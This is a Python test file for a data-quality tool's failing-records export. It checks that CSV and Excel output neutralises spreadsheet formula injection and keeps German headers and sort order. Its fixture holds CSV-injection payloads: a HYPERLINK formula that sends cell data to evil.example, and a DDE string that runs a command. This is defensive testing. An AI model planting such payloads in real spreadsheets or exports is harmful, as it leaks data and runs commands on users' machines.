"""The failing-records lists: Excel opens them right, and no value runs as a formula."""

from __future__ import annotations

import csv
import io
import sqlite3

import pytest
from openpyxl import load_workbook

import kmu_dataguard
from kmu_dataguard.report.export import neutralise

HOSTILE = {
    "K10030": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "K10031": "+cmd|' /C calc'!A0",
    "K10032": "-2+3",
    "K10033": "@SUM(1+1)",
    "K10034": "\t=1+1",
    "K10035": "\r=1+1",
}


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+49 40 1", "'+49 40 1"),
        ("-12.50", "'-12.50"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("a=b", "a=b"),
        ("Müller & Söhne", "Müller & Söhne"),
        (None, ""),
    ],
)
def test_neutralise(value, cell):
    assert neutralise(value) == cell


@pytest.fixture
def lists(world, tmp_path):
    with sqlite3.connect(world.database) as conn:
        for key, value in HOSTILE.items():
            conn.execute("UPDATE customers SET currency = ? WHERE customer_id = ?", (value, key))
        conn.execute("UPDATE customers SET city = 'Köln' WHERE customer_id = 'K10030'")
    conn.close()
    report = tmp_path / "report"
    kmu_dataguard.run_gate("invoicing", config=world.config, report_dir=report, lang="de")
    (run,) = (report / "runs").iterdir()
    return run / "failing-records"


def test_csv_is_utf8_with_bom_and_semicolons(lists):
    raw = (lists / "customers.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    text = raw.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    # The key, name and city as the steward knows them, beside every problem.
    assert rows[0] == [
        "Kundennummer",
        "Name",
        "Ort",
        "Regel-ID",
        "Feld",
        "Schwere",
        "Wert",
        "Gruppe",
        "Warum es wichtig ist",
        "Regel",
    ]
    by_key = {(r[0], r[3]): r for r in rows[1:]}
    iban = by_key[("K10024", "customers.iban_valid")]
    assert iban[1:3] == ["Becker Haustechnik KG", "Hamburg"]
    assert iban[4] == "IBAN" and iban[6] == "DE86500105173067418668"
    assert iban[5] == "kritisch"
    assert "Überweisung" in iban[8]
    for key, value in HOSTILE.items():
        cell = by_key[(key, "customers.currency_valid")][6]
        assert cell == "'" + value, key
    keys = [r[0] for r in rows[1:]]
    assert keys == sorted(keys), "sorted by key, a record's problems together"


def test_xlsx_cells_are_text_never_formulas(lists):
    book = load_workbook(lists / "customers.xlsx")
    sheet = book["customers"]
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][:3] == ("Kundennummer", "Name", "Ort") and sheet["A1"].font.b
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref.startswith("A1:J")
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type in ("s", "inlineStr", "n"), (cell.coordinate, cell.data_type)
            if isinstance(cell.value, str):
                assert not cell.value.startswith(("=", "+", "-", "@", "\t", "\r"))
    values = {(r[0], r[3]): r[6] for r in rows[1:]}
    assert values[("K10030", "customers.currency_valid")] == "'" + HOSTILE["K10030"]
    assert values[("K10024", "customers.iban_valid")] == "DE86500105173067418668"
